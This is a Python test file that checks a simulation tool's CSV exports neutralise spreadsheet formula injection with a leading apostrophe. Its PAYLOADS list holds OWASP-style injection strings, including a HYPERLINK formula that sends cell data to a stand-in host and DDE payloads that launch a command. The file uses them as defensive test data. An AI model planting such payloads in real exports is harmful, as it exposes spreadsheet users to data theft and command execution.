"""CSV exports neutralise formula cells (``docs/reference/security.md``).

A cell of text starting with ``=``, ``+``, ``-``, ``@``, TAB or CR that is not a
number is written with a leading apostrophe, so a spreadsheet shows it as text
instead of running it. Every export goes through ``simulation.present.csv``.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys

import pandas as pd
import pytest

from simulation import store as st
from simulation.present.csv import frame_csv, rows_csv, safe_cell
from simulation.store import decisions as dec
from tests.helpers import ROOT

#: Hostile cells, one per formula start character (OWASP's list).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cli(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "simulation", *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, **(env or {})},
    )


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_gets_an_apostrophe(payload):
    """Each OWASP start character gives ``'`` + the text, unchanged otherwise.
    Catches a rule that forgets one of the six characters."""
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("number", ["-3.5", "+2", "-1e-3", "-.5", "-0", 3, -2.5])
def test_numbers_stay_numbers(number):
    """``-3.5`` is a number a spreadsheet must still add up: passed as it is.
    Catches a rule that quotes every leading minus (a column of deltas turns to text)."""
    assert safe_cell(number) == number


def test_a_frame_export_neutralises_text_and_keeps_numbers():
    """Two rows: a hostile name and a plain one; the numbers column is written as
    numbers (``-1.5`` stays ``-1.5``). Catches an export that bypasses the writer
    or quotes numeric columns."""
    frame = pd.DataFrame({"name": [PAYLOADS[0], "plain"], "delta": [-1.5, 2.0]})
    rows = read(frame_csv(frame))
    assert rows[0]["name"] == "'" + PAYLOADS[0] and rows[1]["name"] == "plain"
    assert [r["delta"] for r in rows] == ["-1.5", "2.0"]
    assert read(rows_csv(["a"], [{"a": "@x"}])) == [{"a": "'@x"}]


def test_decisions_csv_neutralises_a_rationale_and_a_name(tmp_path):
    """A decision recorded with a formula as rationale and as the decider's name:
    ``decisions --csv`` writes both with the apostrophe. Catches the command writing
    rows with a plain ``csv.DictWriter`` (the bug before)."""
    url = f"sqlite:///{tmp_path / 'app.sqlite'}"
    store = st.Store(url)
    dec.record_decision("Q2", "refresh", "accept", "@Ana", PAYLOADS[0], store=store)
    store.dispose()
    p = cli("decisions", "--csv", env={"SIM_DATABASE_URL": url})
    assert p.returncode == 0, p.stderr
    [row] = read(p.stdout)
    assert row["rationale"] == "'" + PAYLOADS[0] and row["decided_by"] == "'@Ana"


def test_prioritise_and_compare_out_neutralise_names(tmp_path):
    """A session whose candidate is named ``=HYPERLINK(...)`` and a scenario named
    ``@SUM(...)``: ``ranking.csv`` and compare's ``runs.csv`` carry them with the
    apostrophe. Catches ``--out`` writing with ``DataFrame.to_csv`` directly."""
    shutil.copy(ROOT / "tests" / "data" / "hand-base.yaml", tmp_path / "hand-base.yaml")
    text = (ROOT / "tests" / "data" / "hand-session.yaml").read_text()
    text = text.replace("Extra report (25 days, 300/week)", "'=HYPERLINK(\"http://x\")'")
    (tmp_path / "s.yaml").write_text(text)
    p = cli("prioritise", str(tmp_path / "s.yaml"), "--runs", "5", "--out", str(tmp_path / "p"))
    assert p.returncode == 0, p.stderr
    rows = read((tmp_path / "p" / "ranking.csv").read_text())
    assert '\'=HYPERLINK("http://x")' in [r["name"] for r in rows]

    base = (
        (tmp_path / "hand-base.yaml")
        .read_text()
        .replace("name: Four serial steps", "name: '@SUM(1+1)'")
    )
    (tmp_path / "b.yaml").write_text(base)
    (tmp_path / "v.yaml").write_text(
        "extends: b.yaml\nname: '-x'\nchanges:\n  - delay_start: {days: 5}\n"
    )
    out = tmp_path / "c"
    p = cli(
        "compare",
        str(tmp_path / "b.yaml"),
        str(tmp_path / "v.yaml"),
        "--runs",
        "5",
        "--out",
        str(out),
    )
    assert p.returncode == 0, p.stderr
    names = {r["scenario"] for r in read((out / "runs.csv").read_text())}
    assert names == {"'@SUM(1+1)", "'-x"}


def test_no_export_bypasses_the_safe_writer():
    """No module of the package or the dashboard calls ``to_csv`` or ``csv.writer``
    itself: every CSV goes through ``simulation/present/csv.py``. Catches a new export
    (or the Decide page's download, before) written with ``DataFrame.to_csv``."""
    owner = ROOT / "simulation" / "present" / "csv.py"
    found = [
        f"{path.relative_to(ROOT)}:{n}"
        for folder in ("simulation", "dashboard")
        for path in sorted((ROOT / folder).rglob("*.py"))
        if path != owner
        for n, line in enumerate(path.read_text().splitlines(), 1)
        if ".to_csv(" in line or "csv.writer(" in line or "csv.DictWriter(" in line
    ]
    assert found == [], f"CSV written without simulation.present.csv: {found}"
